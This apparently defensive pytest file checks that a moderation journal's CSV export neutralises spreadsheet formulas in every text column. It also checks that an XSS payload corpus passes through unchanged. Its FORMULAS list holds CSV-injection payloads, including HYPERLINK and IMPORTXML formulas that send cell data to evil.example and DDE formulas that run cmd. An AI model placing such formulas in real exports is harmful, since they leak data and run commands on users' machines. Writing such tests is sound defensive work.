"""CSV injection: the journal export never hands a spreadsheet a formula, whatever the column.

A cell whose text starts with =, +, -, @, a tab or a carriage return is run as a formula by
spreadsheet programs (OWASP "CSV injection"): the export prefixes it with a quote, in every text
column: who acted (a display name), what was acted on (a title or a name), why (a reason).
"""

from __future__ import annotations

import csv
import io

import pytest

from consultation.core import audit
from consultation.extensions import db
from consultation.moderation import services as moderation
from tests import factories
from tests.conftest import login
from tests.security.xss_payloads import PAYLOADS

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
]


def export(client) -> list[list[str]]:
    """The journal's CSV export, parsed (served as an attachment, never as a page)."""
    response = client.get("/moderation/journal.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_neutralised_in_every_text_column(app, formula):
    """A formula as the actor's name, the target's label and the reason comes out quoted."""
    actor = factories.user(roles=("moderator",), display_name=formula[:80])
    target = factories.user(display_name=formula[:80])
    moderation.block_user(actor, target, formula, 7)
    db.session.commit()
    client = login(app.test_client(), actor)
    header, *table = export(client)
    [row] = [r for r in table if r[3] == "user.block"]
    columns = dict(zip(header, row, strict=True))
    # Registration strips the name: "\t=1+1" is stored as "=1+1", still a formula.
    stored = {"auteur": actor.display_name, "libelle": target.display_name, "motif": formula}
    for name, text in stored.items():
        assert text.startswith(DANGEROUS)
        assert columns[name] == "'" + text, name
    for cells in table:
        for cell in cells:
            assert not cell.startswith(DANGEROUS), cell


def test_xss_corpus_and_ordinary_text_pass_unchanged(app):
    """Text that is no formula is exported as it was written, payloads included."""
    actor = factories.user(roles=("moderator",), display_name="Modération")
    for number, payload in enumerate(PAYLOADS, 1):
        audit.record(actor, "project.update", "project", number, f"Projet {number}", payload)
    audit.record(actor, "project.update", "project", 1000, "Bornes Wi-Fi", "Motif : 3 = 3")
    db.session.commit()
    rows = export(login(app.test_client(), actor))[1:]
    reasons = {int(r[5]): r[7] for r in rows}
    assert reasons[1000] == "Motif : 3 = 3"
    for number, payload in enumerate(PAYLOADS, 1):
        expected = "'" + payload if payload.startswith(DANGEROUS) else payload
        assert reasons[number] == expected
